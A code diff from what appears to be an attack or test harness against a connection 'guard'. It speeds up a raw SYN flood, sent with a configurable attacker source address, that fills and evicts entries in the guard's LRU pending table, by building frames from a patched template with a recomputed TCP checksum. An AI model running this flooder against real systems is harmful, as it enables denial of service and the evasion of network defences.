@@ -409,18 +409,42 @@ def r2_syn_behind(p, dst, sport, tok):
 
 def _flood_syns(p, dst, first, n):
     """n SYNs from ports first.. (each a marked connection attempt: an entry in
-    the guard's 8192-entry LRU guard_pending)"""
+    the guard's 8192-entry LRU guard_pending). scapy builds the first frame;
+    the others are it with the source port, sequence number and TCP checksum
+    patched (byte for byte what scapy builds: _flood_frame; building each
+    with scapy took 25 s)"""
     from scapy.layers.inet import IP, TCP
     from scapy.layers.inet6 import IPv6
     from scapy.layers.l2 import Ether
-    import socket as so
     v6 = ":" in dst
     src = os.environ.get("ATK_SRC6" if v6 else "ATK_SRC")
+    ip = IPv6(src=src, dst=dst) if v6 else IP(src=src, dst=dst)
+    tmpl = bytes(Ether(src=p.smac, dst=p.dmac) / ip / TCP(sport=first, dport=80, flags="S", seq=1))
     for i in range(n):
-        sp = first + (i % 30000)
-        ip = IPv6(src=src, dst=dst) if v6 else IP(src=src, dst=dst)
-        p.sock.send(bytes(Ether(src=p.smac, dst=p.dmac) / ip / TCP(sport=sp, dport=80, flags="S", seq=i * 7 + 1)))
+        p.sock.send(_flood_frame(tmpl, v6, first + (i % 30000), i * 7 + 1))
     say("flood: %d SYNs from ports %d.. sent" % (n, first))
+
+
+def _flood_frame(tmpl, v6, sport, seq):
+    """TMPL (Ethernet, IPv4 or IPv6 without options, a TCP SYN without
+    options) from SPORT with sequence number SEQ, its TCP checksum recomputed"""
+    import struct
+    t = 14 + (40 if v6 else 20)
+    f = bytearray(tmpl)
+    struct.pack_into("!H", f, t, sport)
+    struct.pack_into("!I", f, t + 4, seq)
+    f[t + 16:t + 18] = b"\0\0"
+    tcp = bytes(f[t:])
+    if v6:
+        pseudo = bytes(f[22:54]) + struct.pack("!IxxxB", len(tcp), 6)
+    else:
+        pseudo = bytes(f[26:34]) + struct.pack("!xBH", 6, len(tcp))
+    data = pseudo + tcp + (b"\0" if len(tcp) % 2 else b"")
+    c = sum(struct.unpack("!%dH" % (len(data) // 2), data))
+    while c >> 16:
+        c = (c & 0xFFFF) + (c >> 16)
+    struct.pack_into("!H", f, t + 16, ~c & 0xFFFF)
+    return bytes(f)
 
 
 def r3_evict(p, dst, sport, tok):
